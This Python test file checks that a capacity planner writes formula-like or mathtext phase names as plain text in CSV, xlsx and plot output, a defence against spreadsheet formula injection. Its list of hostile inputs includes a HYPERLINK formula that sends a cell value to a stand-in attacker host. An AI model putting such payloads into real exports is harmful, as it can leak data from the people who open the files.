"""User text in exports is data (issue 44): a phase named like a spreadsheet formula or
like mathtext is written as text in CSV (OWASP's leading-quote rule) and xlsx (string
cells, never formulas), and drawn as written by --plot."""

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.cli.main import main
from planner.report.output import plot_text, render, spreadsheet_text

#: Names an attacker would give a phase (after the phase parser's strip).
HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+1", "-cmd", "@SUM(1)",
           "\t=1", "$x^$"]


def _scenario(tmp_path, names=HOSTILE):
    body = 'model = "llama3-8b"\nhardware = "h100-sxm"\n'
    for name in names:
        body += (f"\n[[phases]]\nname = {json.dumps(name)}\ntokens = 1e11\nseq_len = 8192\n"
                 "global_batch = 512\n")
    path = tmp_path / "hostile.toml"
    path.write_text(body)
    return str(path)


def _csv_cell(name: str) -> str:
    """What a CSV cell holding the phase ``name`` must read."""
    name = name.strip()
    return "'" + name if name[0] in "=+-@\t\r" else name


@pytest.mark.parametrize("text", ["=1+1", "+1", "-cmd", "@SUM(1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_a_leading_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, -3, 0.0, "plain", "a=b", "$x^$", "-", None, True])
def test_numbers_and_plain_text_are_unchanged(value):
    assert spreadsheet_text(value) is value


def test_csv_render_escapes_text_and_keeps_negative_numbers():
    rows = [{"name": n, "delta": -2.5, "count": -3} for n in HOSTILE]
    parsed = list(csv.DictReader(io.StringIO(render(rows, "csv"))))
    assert [r["name"] for r in parsed] == ["'" + n if n[0] in "=+-@\t" else n
                                           for n in HOSTILE]
    assert {r["delta"] for r in parsed} == {"-2.5"}
    assert {r["count"] for r in parsed} == {"-3"}


def test_evaluate_csv_of_hostile_phase_names(tmp_path, capsys):
    assert main(["evaluate", "--scenario", _scenario(tmp_path), "-f", "csv"]) == 0
    parsed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["phase"] for r in parsed] == [_csv_cell(n) for n in HOSTILE] + ["total"]
    assert all(float(r["wall_days"]) > 0 for r in parsed)


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from planner.report.xlsx import append_row

    wb = openpyxl.Workbook()
    sheet = wb.active
    append_row(sheet, [*HOSTILE, "@A1", -1.5, "=SUM(A1:A2)"], live_formulas=(8,))
    target = tmp_path / "cells.xlsx"
    wb.save(target)
    (row,) = openpyxl.load_workbook(target).active.iter_rows()
    assert [c.value for c in row[:7]] == [*HOSTILE, "@A1"]
    assert {c.data_type for c in row[:7]} == {"s"}
    assert (row[7].value, row[7].data_type) == (-1.5, "n")
    assert (row[8].value, row[8].data_type) == ("=SUM(A1:A2)", "f")  # capplan's own


def test_export_xlsx_writes_hostile_phase_names_as_text(tmp_path, capsys):
    openpyxl = pytest.importorskip("openpyxl")
    target = tmp_path / "hostile.xlsx"
    assert main(["export", "xlsx", "--scenario", _scenario(tmp_path), "-o", str(target)]) == 0
    sheet = openpyxl.load_workbook(target)["Phases"]
    names = [row[0] for row in sheet.iter_rows(min_row=2, max_col=1)]
    assert [c.value for c in names] == [n.strip() for n in HOSTILE] + ["total"]
    assert {c.data_type for c in names} == {"s"}
    # the phase rows hold no formula at all; the total row's are capplan's SUM/MAX
    for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1):
        assert not any(c.data_type == "f" for c in row)
    assert any(c.data_type == "f" for c in sheet[len(HOSTILE) + 2])


@settings(deadline=None)  # the first example imports matplotlib
@given(st.text(max_size=30))
def test_plot_text_is_drawn_as_written(text):
    """matplotlib's own reading of a label: never mathtext, the characters as given."""
    pytest.importorskip("matplotlib")
    from matplotlib.text import Text

    assert Text()._preprocess_math(plot_text(text)) == (text, False)


def test_plan_plot_draws_hostile_phase_names(tmp_path, capsys, monkeypatch):
    """Before the fix the $x^$ phase was an internal error (exit 3) in _finish_labels."""
    pytest.importorskip("matplotlib")
    from planner.report import plot

    drawn = []
    real = plot._save
    monkeypatch.setattr(plot, "_save", lambda fig, *a, **k: drawn.append(
        [t.get_text() for ax in fig.get_axes() for t in ax.get_xticklabels()]) or real(
            fig, *a, **k))
    png = tmp_path / "p.png"
    names = ["$x^$", '=HYPERLINK("http://evil.example/"&A1,"click")']
    assert main(["plan", "--scenario", _scenario(tmp_path, names), "--plot", str(png),
                 "--max-gpus", "64"]) == 0
    assert png.stat().st_size > 10_000
    (labels,) = drawn
    firsts = [t.split("\n")[0] for t in labels if "tokens" in t]
    assert firsts == [plot_text(n) for n in names]
